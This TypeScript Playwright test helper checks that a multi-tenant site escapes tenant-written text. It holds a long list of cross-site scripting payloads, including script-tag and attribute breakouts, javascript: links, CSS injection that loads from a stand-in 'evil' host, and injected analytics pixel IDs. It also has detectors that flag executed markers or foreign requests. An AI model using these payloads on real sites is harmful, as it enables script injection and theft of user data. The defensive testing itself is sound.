import type { Page } from '@playwright/test';
import type { Rewording } from './webs/faulty-service';

const RUN = 'window.__ran=1';
const FOREIGN = 'http://127.0.0.1:9/evil';

/** Texts that would run code or load something if a page did not escape them (guarantee/text-is-text). */
export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<SCRIPT/SRC=${FOREIGN}></SCRIPT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${FOREIGN}">`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\` onmouseover=${RUN} \``,
  `" autofocus onfocus=${RUN} x="`,
  `' onpointerenter=${RUN} x='`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<math><mtext></mtext><script>${RUN}</script></math>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<object data=${FOREIGN}></object>`,
  `<embed src=${FOREIGN}>`,
  `<link rel=stylesheet href=${FOREIGN}>`,
  `<base href=${FOREIGN}/>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<form action=${FOREIGN}><button autofocus>x</button></form>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `\u2028${RUN}\u2029`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}`,
  `javascript:${RUN}`,
  `');${RUN};//`,
];

/** One for each place that a text may break out of: an element, an attribute, a script, an address. */
export const ONE_OF_EACH = [
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `javascript:${RUN}`,
  `');${RUN};//`,
];

/** Stands in every reworded text, to prove that it was shown. */
export const SHOWN = '<svg onload=window.__ran=1>';

const TEXTS = new Set([
  ...['name', 'label', 'label_custom', 'title', 'text', 'description', 'address', 'city', 'zone'],
  ...['nuestras_tiendas', 'message', 'style_custom'],
]);

/** The diner's own fields have a limit of length. */
const OF_THE_DINER = new Set(['profile', 'contact', 'place']);

/** Every text that a tenant writes, in whatever answer, with every payload behind it. */
export const withMarkup: Rewording = (value) => {
  if (Array.isArray(value)) return value.map(withMarkup);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, inner]) => {
      if (OF_THE_DINER.has(key)) return [key, inner];
      const isText = typeof inner === 'string' && TEXTS.has(key);
      return [key, isText ? `${inner} ${PAYLOADS.join(' ')}` : withMarkup(inner)];
    }),
  );
};

const BREAKOUT = `red}</style><script>${RUN}</script>`;

/** A tenant whose style, links and pixels are attacks (guarantee/tenant-style, guarantee/safe-links). */
export const withHostileLook: Rewording = (value) => {
  if (typeof value !== 'object' || value === null || !('theme' in value)) return value;
  const hrefs = [
    `javascript:${RUN}`,
    `JaVa\tscript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    '//evil',
  ];
  return {
    ...value,
    theme: {
      dark: false,
      theme_color: BREAKOUT,
      titles_txt_color: `url(${FOREIGN})`,
      page_bgcolor: '#fff;}',
    },
    style_custom: `${BREAKOUT}; @import url(${FOREIGN}); --radius: 8px} body{display:none; input[value^=a]{background:url(${FOREIGN})}`,
    linktree: hrefs.map((url) => ({ label: url, label_custom: null, target: 'blank', url })),
    socials: hrefs.map((url) => ({ network: 'web', url })),
    pixel_google_analytics: `G-1');${RUN}//`,
    pixel_facebook_analytics: `1');${RUN}//`,
  };
};

/** Whether anything of them has run or asked for something, on this page since it was watched. */
export function watchMarkup(page: Page) {
  const foreign: string[] = [];
  page.on('request', (request) => request.url().startsWith(FOREIGN) && foreign.push(request.url()));
  return {
    async faults(): Promise<string[]> {
      const ran = await page.evaluate(() => '__ran' in window);
      return ran ? [...foreign, `a text ran at ${page.url()}`] : foreign;
    },
  };
}

/** Runs in a page: reads a document of its site as a browser does, without running it, and finds what texts have made. */
export async function readMarkup({ path, shown }: { path: string; shown: string }) {
  const answer = await fetch(path);
  const { documentElement: root } = new DOMParser().parseFromString(await answer.text(), 'text/html');
  const isMade = (element: Element) =>
    element.matches('base, object, embed, iframe, animate, math') ||
    /^\s*(window|parent)\.__ran/.test(element.localName === 'script' ? (element.textContent ?? '') : '') ||
    [...element.attributes].some(
      ({ name, value }) =>
        name.startsWith('on') || /^\s*(javascript:|(0;url=)?http:\/\/127\.0\.0\.1:9\/)/i.test(value),
    );
  return {
    status: answer.status,
    isShown: root.textContent?.includes(shown) ?? false,
    made: [...root.querySelectorAll('*')].filter(isMade).map(({ outerHTML }) => outerHTML.slice(0, 120)),
  };
}
